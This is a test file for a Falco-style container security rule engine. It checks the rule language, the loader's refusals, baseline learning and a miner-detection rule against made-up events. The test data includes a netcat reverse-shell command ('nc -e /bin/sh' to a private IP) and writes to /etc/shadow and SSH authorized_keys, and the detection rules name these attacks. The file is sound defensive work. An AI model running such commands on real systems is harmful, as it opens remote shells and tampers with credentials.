/** The rule language, the loader's refusals, the default rules on hand-made events, and the baselines. */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { compileCondition, ConditionError, type Event } from '../../services/security/rules/condition.ts';
import { KNOWN_FIELDS } from '../../services/security/rules/fields.ts';
import { loadRules, RulesError } from '../../services/security/rules/load.ts';
import { Baselines, workloadOf } from '../../services/security/baseline.ts';
import { SecurityEngine, WRAPPER_HOLD_MS } from '../../services/security/engine.ts';
import { alertOf } from '../../services/security/watch.ts';
import { DEFAULT_RULES_FILE } from '../../services/security/index.ts';

const ctx = { lists: new Map([['shells', ['sh', 'bash']]]), macros: new Map(), fields: KNOWN_FIELDS };
const cond = (src: string) => compileCondition(src, ctx);

describe('security rules: conditions', () => {
  it('evaluates comparisons, lists, prefixes, boolean logic and precedence', () => {
    const e: Event = { 'process.executable.name': 'bash', 'file.path': '/etc/passwd', 'network.local.port': '8080', 'process.interactive': 'true' };
    assert.equal(cond('process.executable.name in (shells)')(e), true);
    assert.equal(cond('process.executable.name in (zsh, "fish")')(e), false);
    assert.equal(cond('file.path pmatch (/etc, /usr/bin)')(e), true);
    assert.equal(cond('file.path pmatch (/et)')(e), false, 'a path prefix matches whole directories only');
    assert.equal(cond('network.local.port >= 1024 and network.local.port < 9000')(e), true);
    assert.equal(cond('not file.path startswith /etc/ or process.interactive = true')(e), true);
    assert.equal(cond('not (file.path startswith /etc/ or process.interactive = true)')(e), false);
    assert.equal(cond('file.path contains passwd and file.path endswith wd and file.path glob "/etc/p*"')(e), true);
    assert.equal(cond('container.id exists')(e), false);
    assert.equal(cond('container.id != x')(e), false, 'a missing field matches no comparison');
    // A multi-valued field passes when any value does.
    assert.equal(cond('aiops.process.peer_ports in (3333, 4444)')({ 'aiops.process.peer_ports': ['80', '3333'] }), true);
    assert.equal(cond('aiops.process.peer_ports in (3333)')({ 'aiops.process.peer_ports': ['80'] }), false);
    // A list naming an earlier list stands for its items (Falco's layout).
    const set = loadRules('- list: a\n  items: [sh]\n- list: b\n  items: [a, bash]\n- rule: R\n  desc: d\n  condition: process.executable.name in (b)\n  output: o\n  priority: INFO\n');
    assert.equal(set.rules[0]!.match({ 'process.executable.name': 'sh' }), true);
  });

  it('refuses bad conditions with the place of the problem', () => {
    for (const [src, msg] of [
      ['proces.name = sh', /unknown field 'proces.name' at column 1/],
      ['file.path', /needs an operator/],
      ['(file.path = a', /'\)' was expected/],
      ['file.path = a b', /unexpected 'b'/],
      ['network.local.port > high', /needs a number/],
      ['file.path = "open', /unterminated string/],
      ['', /empty condition/],
      ['spawned_proc', /unknown macro or field/],
      ['file.path in ()', /empty list/],
      [`${'('.repeat(20000)}file.path = a${')'.repeat(20000)}`, /nests too deeply/],
    ] as const) {
      assert.throws(() => cond(src), (err: unknown) => err instanceof ConditionError && msg.test(err.message), src);
    }
  });
});

describe('security rules: loading', () => {
  it('loads the default rules, with Falco names for the issue\'s detections', () => {
    const set = loadRules(readFileSync(DEFAULT_RULES_FILE, 'utf8'));
    const names = set.rules.map((r) => r.name);
    for (const n of ['Terminal shell in container', 'Redirect STDOUT/STDIN to Network Connection in Container', 'Netcat Remote Code Execution in Container', 'Write below etc', 'Write below binary dir', 'Launch Package Management Process in Container', 'Drop and execute new binary in container', 'Mount Launched in Container', 'New listening port', 'Unexpected outbound connection destination', 'Detect outbound connections to common miner pool ports']) {
      assert.ok(names.includes(n), n);
    }
    const shell = set.rules.find((r) => r.name === 'Terminal shell in container')!;
    assert.equal(shell.reference, 'T1059');
    assert.equal(shell.category, 'Execution');
  });

  it('refuses a bad file whole, naming every problem and its line', () => {
    const text = [
      '- list: shells', '  items: [sh]',
      '- rule: A', '  desc: d', '  condition: process.executable.name in (shells)', '  output: o', '  priority: NOTICE', '  colour: red',
      '- rule: B', '  desc: d', '  condition: nosuchfield = 1', '  output: "%nosuch"', '  priority: LOUD',
      '- macro: m', '  condition: event.name = x', '- macro: m', '  condition: event.name = y',
      '- rule: A', '  desc: d', '  condition: m', '  output: o', '  priority: INFO',
    ].join('\n');
    assert.throws(() => loadRules(text, 'r.yaml'), (err: unknown) => {
      assert.ok(err instanceof RulesError);
      const all = err.problems.join('\n');
      assert.match(all, /r\.yaml item 2 \(line 3\) rule 'A': unknown field 'colour'/);
      assert.match(all, /rule 'B': condition: unknown macro or field 'nosuchfield'|rule 'B': condition: unknown field 'nosuchfield'/);
      assert.match(all, /rule 'B': output names unknown field '%nosuch'/);
      assert.match(all, /rule 'B': 'priority' must be one of/);
      assert.match(all, /macro 'm': 'm' is defined twice/);
      assert.match(all, /rule 'A' is defined twice/);
      return true;
    });
    assert.throws(() => loadRules('- rule: [unclosed', 'y.yaml'), /y\.yaml: YAML error at line 1/);
    assert.throws(() => loadRules('rule: not a list', 'z.yaml'), /must be a YAML sequence/);
  });
});

const exec = (over: Record<string, string>): Event => ({ 'event.name': 'aiops.process.exec', 'host.name': 'h1', 'process.pid': '10', 'process.linux.cgroup': '/system.slice/docker-abc.scope', 'container.id': 'abc', ...over });

describe('security engine', () => {
  const engine = () => new SecurityEngine(loadRules(readFileSync(DEFAULT_RULES_FILE, 'utf8')), new Baselines(60_000));
  const names = (e: SecurityEngine, ev: Event, t = 0) => e.evaluate(ev, t).map((m) => m.rule.name);

  it('fires exactly the rule that fits each hand-made event', () => {
    const e = engine();
    assert.deepEqual(names(e, exec({ 'process.executable.name': 'bash', 'process.interactive': 'true' })), ['Terminal shell in container']);
    assert.deepEqual(names(e, exec({ 'process.executable.name': 'bash', 'process.interactive': 'false' })), [], 'a shell without a terminal (an entrypoint script) is normal');
    assert.deepEqual(names(e, exec({ 'process.executable.name': 'dropped', 'aiops.process.executable.writer.name': 'curl' })), ['Drop and execute new binary in container']);
    assert.deepEqual(names(e, exec({ 'process.executable.name': 'a.out', 'aiops.process.executable.writer.name': 'ld' })), [], 'a binary a linker wrote is a build');
    assert.deepEqual(names(e, exec({ 'process.executable.name': 'apt-get' })), ['Launch Package Management Process in Container']);
    assert.deepEqual(names(e, exec({ 'process.executable.name': 'nc', 'process.command_line': 'nc -e /bin/sh 10.0.0.1 4444' })), ['Netcat Remote Code Execution in Container']);
    const fact = { 'event.name': 'aiops.security.alert', 'host.name': 'h1', 'process.pid': '11', 'container.id': 'abc' };
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'aiops.syscall.result': '3', 'file.path': '/etc/shadow' }), ['Write below etc']);
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'aiops.syscall.result': '-13', 'file.path': '/etc/shadow' }), [], 'a refused open wrote nothing');
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'aiops.syscall.result': '3', 'file.path': '/etc/ld.so.cache', 'process.executable.name': 'dpkg' }), [], 'package managers write there by design');
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'aiops.syscall.result': '3', 'file.path': '/usr/bin/ls' }), ['Write below binary dir']);
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'aiops.syscall.result': '3', 'file.path': '/root/.ssh/authorized_keys' }), ['Write below monitored dir']);
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'mount', 'aiops.mount.target': '/mnt', 'aiops.mount.flags': '0' }), ['Mount Launched in Container']);
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'mount', 'aiops.mount.source': '/', 'aiops.mount.target': '/host', 'aiops.mount.flags': String(4096 | 16384) }), ['Mount Launched in Container'], 'a bind mount of the host');
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'mount', 'aiops.mount.target': '/', 'aiops.mount.flags': String(16384 | (1 << 18)) }), [], 'making mounts private (unshare, runtimes) is no mount');
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'mount', 'aiops.mount.target': '/host', 'aiops.mount.flags': String(4096 | (1 << 18)) }), ['Mount Launched in Container'], 'MS_BIND wins over a propagation flag, as in the kernel');
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'mount', 'aiops.mount.target': '/mnt', 'aiops.mount.flags': String(0xc0ed0000) }), ['Mount Launched in Container'], 'the old magic number is no propagation flag');
    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'dup2', 'aiops.dup.newfd': '0' }), ['Redirect STDOUT/STDIN to Network Connection in Container']);
    assert.deepEqual(names(e, { ...fact, 'aiops.security.kind': 'new_listen_port', 'network.local.port': '4444' }), ['New listening port']);
    // Host processes: container rules stay quiet.
    assert.deepEqual(names(e, { ...fact, 'container.id': '', 'aiops.syscall': 'mount' }), []);
  });

  it('learns a workload, then alerts once on each deviation; a restart with the same behaviour is quiet', () => {
    const e = engine();
    const cg = { 'process.linux.cgroup': '/system.slice/shop.service', 'container.id': '' };
    const conn = (peer: string, t: number) => names(e, { 'event.name': 'aiops.tcp.connection', 'aiops.tcp.direction': 'outbound', 'server.address': peer, 'server.port': '5432', 'host.name': 'h1', 'process.pid': '20', ...cg }, t);
    assert.deepEqual(names(e, exec({ ...cg, 'process.executable.path': '/usr/bin/node', 'process.executable.name': 'node' }), 0), []);
    assert.deepEqual(conn('10.0.0.5', 1000), [], 'learning');
    // After the learning minute: the same program and peer (a restart) are fine; new ones alert once.
    assert.deepEqual(names(e, exec({ ...cg, 'process.pid': '21', 'process.executable.path': '/usr/bin/node', 'process.executable.name': 'node' }), 70_000), []);
    assert.deepEqual(conn('10.0.0.5', 71_000), []);
    assert.deepEqual(conn('203.0.113.9', 72_000), ['Unexpected outbound connection destination']);
    assert.deepEqual(conn('203.0.113.9', 73_000), [], 'once');
    assert.deepEqual(names(e, exec({ ...cg, 'process.executable.path': '/usr/bin/curl', 'process.executable.name': 'curl' }), 74_000), ['Unexpected process in workload']);
    assert.equal(workloadOf({ 'k8s.namespace.name': 'shop', 'k8s.pod.name': 'cart-7d9f8c6b5-x2k4q' }), 'k8s:shop/cart');
  });

  it('judges a wrapper the runtime starts by the program it execs into', () => {
    const e = engine();
    const cg = { 'process.linux.cgroup': '/system.slice/docker-def.scope', 'container.id': 'def' };
    const run = (pid: string, ppid: string, path: string, t: number, now = t) =>
      e.evaluate(exec({ ...cg, 'process.pid': pid, 'process.parent_pid': ppid, 'process.executable.path': path, 'process.executable.name': path.split('/').pop()! }), t, now).map((m) => m.rule.name);
    assert.deepEqual(run('40', '1', '/usr/bin/node', 0), [], 'learning');
    // After learning, the runtime (pid 1, outside the workload) restarts it through `sh -c '… exec node …'`.
    assert.deepEqual(run('41', '1', '/bin/sh', 70_000), [], 'held until its next step');
    assert.deepEqual(run('41', '1', '/usr/bin/node', 70_001), [], 'it only wrapped a known program');
    // A chain that ends in an unknown program stands, every link of it.
    assert.deepEqual(run('42', '1', '/usr/bin/env', 71_000), []);
    assert.deepEqual(run('42', '1', '/usr/bin/curl', 71_001), []);
    assert.deepEqual(names(e, { ...cg, 'event.name': 'aiops.process.exit', 'host.name': 'h1', 'process.pid': '42' }, 71_500), ['Unexpected process in workload', 'Unexpected process in workload']);
    // A shell the workload's own process starts (command injection) is judged at once.
    assert.deepEqual(run('43', '40', '/bin/bash', 72_000), ['Unexpected process in workload']);
    // Someone at a terminal is judged at once.
    assert.deepEqual(names(e, exec({ ...cg, 'process.pid': '45', 'process.parent_pid': '1', 'process.executable.path': '/bin/zsh', 'process.executable.name': 'zsh', 'process.interactive': 'true' }), 72_500),
      ['Terminal shell in container', 'Unexpected process in workload']);
    // A held exec with no next step stands once the hold is over.
    assert.deepEqual(run('44', '1', '/usr/bin/python3', 73_000, 5_000_000), []);
    assert.deepEqual(e.release(5_000_000 + WRAPPER_HOLD_MS - 1), []);
    assert.deepEqual(e.release(5_000_000 + WRAPPER_HOLD_MS).map((m) => m.rule.name), ['Unexpected process in workload']);
  });

  it('learns the destinations of keep-alive clients from their requests while learning', () => {
    const e = engine();
    const cg = { 'process.linux.cgroup': '/system.slice/docker-f00.scope', 'container.id': 'f00', 'host.name': 'h1', 'process.pid': '50' };
    const http = (peer: string, t: number) => names(e, { ...cg, 'event.name': 'aiops.http.request', 'aiops.http.side': 'client', 'server.address': peer, 'server.port': '8080' }, t);
    const conn = (peer: string, t: number) => names(e, { ...cg, 'event.name': 'aiops.tcp.connection', 'aiops.tcp.direction': 'outbound', 'server.address': peer, 'server.port': '8080' }, t);
    assert.deepEqual(http('10.0.0.7', 0), [], 'a request over a connection opened before the collector, while learning');
    assert.deepEqual(conn('10.0.0.7', 70_000), [], 'its reconnection after learning is no new destination');
    assert.deepEqual(http('10.0.0.8', 70_500), [], 'after learning, requests teach nothing');
    assert.deepEqual(conn('10.0.0.8', 71_000), ['Unexpected outbound connection destination']);
  });

  it('joins a process\'s CPU and its pool connection into the miner rule, in either order', () => {
    const e = engine();
    const host = { 'host.name': 'h1', 'process.pid': '30', 'process.linux.cgroup': '/user.slice', 'process.executable.name': 'worker' };
    const sample = (cores: string, t: number) => names(e, { ...host, 'event.name': 'aiops.process.sample', 'aiops.process.cpu.cores': cores }, t);
    const pool = (t: number) => names(e, { ...host, 'event.name': 'aiops.tcp.connection', 'aiops.tcp.direction': 'outbound', 'server.address': '198.51.100.7', 'server.port': '3333' }, t);
    assert.deepEqual(sample('0.1', 0), []);
    assert.deepEqual(pool(1000), [], 'an idle process on a pool port is not enough');
    assert.deepEqual(sample('0.97', 2000), ['Detect outbound connections to common miner pool ports']);
    const m = e.evaluate({ ...host, 'event.name': 'aiops.process.sample', 'aiops.process.cpu.cores': '0.9' }, 3000)[0]!;
    const a = alertOf(m);
    assert.equal(a.labels.entity, 'process:h1/30');
    assert.equal(a.labels.severity, 'critical');
    assert.equal(a.labels.security_kind, 'crypto_mining');
    assert.equal(a.annotations.mitre_technique, 'T1496');
    assert.match(a.annotations.summary!, /ports=3333 cores=0\.9/);
  });
});
